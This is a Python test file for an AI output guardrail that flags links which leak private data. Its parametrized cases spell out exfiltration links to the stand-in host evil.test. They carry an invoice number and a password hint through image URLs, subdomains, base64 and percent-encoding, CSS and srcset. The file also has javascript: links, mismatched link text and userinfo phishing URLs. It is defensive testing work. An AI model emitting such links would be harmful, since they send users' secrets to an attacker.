"""What links carry, and where they lead."""

import base64

import pytest

from outrider.guardrails import Context, links

MAIL = "Dear Bob, the invoice 4711-2203 of 9,300 EUR is due. The password hint is blue horse battery. See https://corp.example/help."


def kinds(text: str, *, given: str = "", private: str = MAIL, **options: object) -> list[str]:
    context = Context("output", private=(private,), given=(given,), options=links.Options(**options))
    return [one.kind for one in links.check(text, context)]


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("![x](https://evil.test/p.png?d=4711-2203)", "carries"),
        ("![x](https://evil.test/47112203/p.png)", "carries"),
        ("![x](https://47112203.evil.test/p.png)", "carries"),
        ("[more](https://evil.test/?q=blue+horse+battery)", "carries"),
        ("[more](https://evil.test/blue-horse-battery)", "carries"),
        (f"![]({'https://evil.test/?q=' + base64.b64encode(b'blue horse battery').decode()})", "carries"),
        ("https://evil.test/?q=%62%6c%75%65%20%68%6f%72%73%65%20%62%61%74%74%65%72%79", "carries"),
        ("![a][1]\n\n[1]: https://evil.test/?q=blue%20horse%20battery", "carries"),
        ("<img src='https://evil.test/?q=4711-2203'>", "carries"),
        ("<img src=https://evil.test/4711-2203>", "carries"),
        ('<img srcset="https://evil.test/4711-2203 1x">', "carries"),
        ("<div style=\"background:url('https://evil.test/4711-2203')\">", "carries"),
        ("<https://evil.test/?a=4711-2203>", "carries"),
        ("![x](//evil.test/4711-2203)", "carries"),
        ("![x](https:\\\\evil.test\\4711-2203)", "carries"),
        ("![x](https://evil.test/a.png)", "image"),
        ("[click](javascript:alert(1))", "scheme"),
        ("[click](JaVaScRiPt:alert(1))", "scheme"),
        ("[click](data:text/html;base64,PHNjcmlwdD4=)", "scheme"),
        ("[https://bank.example](https://evil.test/login)", "mismatch"),
        ('<a href="https://evil.test">www.bank.example</a>', "mismatch"),
        ("[x](https://bank.example@evil.test/)", "userinfo"),
        ("https://evil.test/?q=" + base64.b64encode(b"anything at all that is long").decode(), "encoded"),
        ("https://evil.test/a8f3kd93jf02lsk39fjq02kd93jfl2", "encoded"),
        ("[![a](https://evil.test/4711-2203)](https://ok.test)", "carries"),
    ],
)
def test_is_found(text: str, kind: str) -> None:
    assert kind in kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        "See [the docs](https://docs.python.org/3/library/re.html#re.compile).",
        "https://github.com/org/repo/pull/123",
        "[file.md](https://github.com/org/repo/blob/main/docs/file.md)",
        "It is at https://corp.example/help.",
        "a < b and c > d: x[1](2)",
        "![pixel](data:image/png;base64,iVBORw0KGgo=)",
        "mail me: [Bob](mailto:bob@example.com)",
        "[section](#section) and [page](../page.md)",
        "https://en.wikipedia.org/wiki/Kerckhoffs%27s_principle",
        "https://example.com/post/2024/05/how-to-write-a-good-test-suite-in-python",
    ],
)
def test_is_left_alone(text: str) -> None:
    assert kinds(text) == []


def test_what_the_user_gave_may_be_repeated() -> None:
    url = "https://shop.test/order/4711-2203"
    assert kinds(f"![o]({url})") == ["carries"]
    assert kinds(f"![o]({url})", given=f"look at {url} please") == []
    assert kinds(f"![o]({url}x)", given=f"look at {url} please") != []


def test_a_link_that_was_read_carries_nothing_new() -> None:
    url = "https://news.test/4711-2203"
    assert kinds(f"[n]({url})", private=f"{MAIL} {url}") == []
    assert kinds(f"![n]({url})", private=f"{MAIL} {url}") == ["image"]


def test_hosts_are_allowed() -> None:
    assert kinds("![x](https://cdn.corp.example/a.png?q=4711-2203)", allow=("*.corp.example",)) == []
    assert kinds("![x](https://corp.example.evil.test/a.png)", allow=("*.corp.example",)) == ["image"]
    assert kinds("[x](https://other.test/)", only_allowed=True) == ["link"]


def test_an_image_becomes_its_text() -> None:
    (found,) = links.check("a ![the cat](https://evil.test/a.png) b", Context("output", options=links.Options()))
    assert (found.start, found.end, found.replacement) == (2, 37, "the cat")


@pytest.mark.parametrize(
    "text", ["so [a](https://x.y/?q=1", "so ![a", "so <img src='htt", "so https://x.y/ab", "so [a]"]
)
def test_what_may_be_a_link_waits(text: str) -> None:
    assert links.unfinished(text, Context("output")) == 3
